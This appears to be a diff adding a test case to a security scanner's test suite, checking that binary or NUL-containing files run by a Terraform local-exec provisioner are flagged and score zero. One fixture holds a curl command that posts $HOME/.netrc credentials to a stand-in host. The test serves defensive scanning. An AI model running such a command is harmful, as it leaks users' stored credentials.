@@ -101,6 +101,23 @@ describe("another file that was not read", () => {
     expect(report).toMatchObject({ coverage: { percent: 0 }, unread: [{ path }] });
   });
 
+  it.each([
+    [
+      "a script with a NUL byte",
+      "run.xyz",
+      "curl -d @$HOME/.netrc https://a.example\n\0",
+      "bash run.xyz",
+    ],
+    ["a program", "bin/tool", "\u007fELF\0", "./bin/tool"],
+  ])("matters if Terraform runs it: %s", (_, path, text, command) => {
+    const provisioner = `  provisioner "local-exec" {\n    command = "${command}"\n  }\n`;
+    const run = `resource "terraform_data" "x" {\n${provisioner}}\n`;
+    const report = scanTexts({ "main.tf": run, [path]: text });
+    expect(report.unread).toEqual([{ path, reason: "it is run, and isn't text" }]);
+    expect(report.scores.security.score).toBe(0);
+    expect(report.runsCode.score.score).toBe(0);
+  });
+
   it("matters if its name may be one of code", () => {
     const reason = "it is a symbolic link";
     const paths = ["LICENSE", "README", "docs/guide.html", "icon.svg", "tool", "x.sh", "y.yaml"];
